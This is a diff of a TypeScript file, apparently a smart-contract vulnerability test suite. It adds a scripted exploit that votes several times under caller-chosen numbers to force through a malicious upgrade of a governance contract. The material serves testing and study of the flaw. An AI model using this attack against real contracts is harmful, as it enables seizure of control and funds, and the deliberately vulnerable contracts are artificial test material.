@@ -172,6 +172,21 @@ const drafts: readonly Draft[] = [
     exploit: pass('vote(bytes32,bool,uint256)', [7n], undefined, 3),
   },
   {
+    name: 'votes are recorded under a number of the caller',
+    by: 'anyone',
+    cause: 'lying getter',
+    build: voted('NumberedBallots', 'OneEach'),
+    exploit: async (attack, built) => {
+      const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
+      const data = upgradeCall(built.address, attack.code)
+      await attack.send(controller, 'propose(address,bytes)', [target, data])
+      for (const number of [1n, 2n, 3n])
+        await attack.send(controller, 'vote(bytes32,bool,uint256)', [proposal(target, data), true, number])
+      await attack.wait(700_000)
+      await attack.send(controller, 'execute(address,bytes)', [target, data])
+    },
+  },
+  {
     name: 'the caller says how often its vote counts',
     by: 'anyone',
     cause: 'lying getter',
